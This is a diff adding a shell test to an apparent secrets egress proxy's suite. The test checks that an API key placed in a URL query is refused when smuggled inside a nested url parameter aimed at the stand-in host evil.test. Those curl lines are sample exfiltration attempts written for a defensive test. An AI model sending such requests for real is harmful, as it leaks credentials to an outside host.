@@ -556,6 +556,30 @@ curl -sS -m 10 -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/ech
 	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
 }
 
+# A query's value goes only as the value of its own parameter as the
+# server reads it: parameters split at "&", and a later "?" is a byte of
+# the one before.  "?url=https://evil.test/?key=PH" put the value in url,
+# for a server that fetches that URL (a page-speed or link-preview API
+# under a key in ?key=) to send it to evil.test.  The user's side: first,
+# last, amid others, it is swapped.
+t_query_value_only_in_its_own_parameter() {
+	secrets_policy
+	nrun -- /bin/sh -c "
+h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
+h \"https://api.test:$GOOD/fetch?url=https://evil.test/?key=\$Q_KEY\"
+h \"https://api.test:$GOOD/fetch?url=https://evil.test/?key=\$Q_KEY&x=1\"
+h \"https://api.test:$GOOD/first?key=\$Q_KEY&x=1\"
+h \"https://api.test:$GOOD/last?a=1&b=2&key=\$Q_KEY\"
+h \"https://api.test:$GOOD/amid?a=1&key=\$Q_KEY&b=2\""
+	expect_eq "statuses" "$(stdout | head -5 | tr '\n' ' ')" "403 403 200 200 200 "
+	expect_not_contains "never in another parameter" "$(cat "$GOODLOG")" "evil.test/?key=$QSECRET"
+	expect_contains "first" "$(cat "$GOODLOG")" "GET /first?key=$QSECRET&x=1 "
+	expect_contains "last" "$(cat "$GOODLOG")" "GET /last?a=1&b=2&key=$QSECRET "
+	expect_contains "amid" "$(cat "$GOODLOG")" "GET /amid?a=1&key=$QSECRET&b=2 "
+	expect_eq "refused, said" "$(grep '"type":"egress.denied"' "$T/events" | grep -c 'secret Q_KEY in the URL')" 2
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$QSECRET"
+}
+
 # The user's side of the same: a call with the secret whose answer does not
 # reflect it comes back byte for byte, large or small, kept alive or not;
 # an answer that ends with a value's first bytes is not held back waiting
